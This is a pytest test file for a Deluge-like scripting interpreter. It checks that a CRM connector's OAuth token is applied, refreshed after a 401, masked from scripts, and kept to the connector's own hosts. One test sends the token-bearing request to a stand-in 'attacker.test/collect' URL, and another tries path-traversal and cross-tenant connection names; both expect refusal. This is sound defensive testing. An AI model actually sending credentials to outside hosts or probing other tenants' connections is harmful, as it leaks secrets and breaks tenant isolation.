"""invokeurl with `connection:`: the connector's token applied, refreshed after a 401, bound to its hosts."""

from __future__ import annotations

import pytest
from connector_helpers import authorize, define_crm

import delugelang
from delugelang import ScriptError, Services
from delugelang.invokeurl import HttpTaskService


@pytest.fixture
def crm(provider, workspace, service_factory, http):
    define_crm(workspace, provider)
    service = service_factory()
    authorize(service)
    return Services(http=HttpTaskService(http, service), connectors=service)


def run(source: str, services: Services):
    return delugelang.compile(source, "<conn>").run(services=services)


def test_connection_token_is_applied(crm, provider):
    result = run(f'r = invokeurl [ url: "{provider.base}/api/me" type: GET connection: "crm" ];\n'
                 'info r.get("email");', crm)
    assert result.info == ("alice@example.test",)
    assert provider.counters.refresh == 0


def test_a_401_refreshes_once_and_retries_once(crm, provider):
    provider.revoke_access_tokens()
    result = run(f'r = invokeurl [ url: "{provider.base}/api/me" connection: "crm" ];\n'
                 'info r.get("email");', crm)
    assert result.info == ("alice@example.test",)
    assert provider.counters.refresh == 1


def test_the_token_never_reaches_the_script(crm, provider):
    result = run(f'r = invokeurl [ url: "{provider.base}/api/echo" connection: "crm" '
                 'detailed: true ];\ninfo r;', crm)
    token = crm.connectors.registry.state.connection(
        crm.connectors.connection_key("crm")).token.access_token
    assert token not in result.info[0]
    assert "********" in result.info[0]


@pytest.mark.parametrize("name", ["nope", "../tenantB/crm", "tenantB:crm"])
def test_unknown_connections_fail_alike(crm, provider, name):
    with pytest.raises(ScriptError, match="does not exist or is not accessible"):
        run(f'r = invokeurl [ url: "{provider.base}/api/me" connection: "{name}" ];', crm)


def test_foreign_hosts_never_see_the_token(crm, provider):
    before = provider.counters.api
    with pytest.raises(ScriptError, match="not allowed for this host"):
        run('r = invokeurl [ url: "https://attacker.test/collect" connection: "crm" ];', crm)
    assert provider.counters.api == before
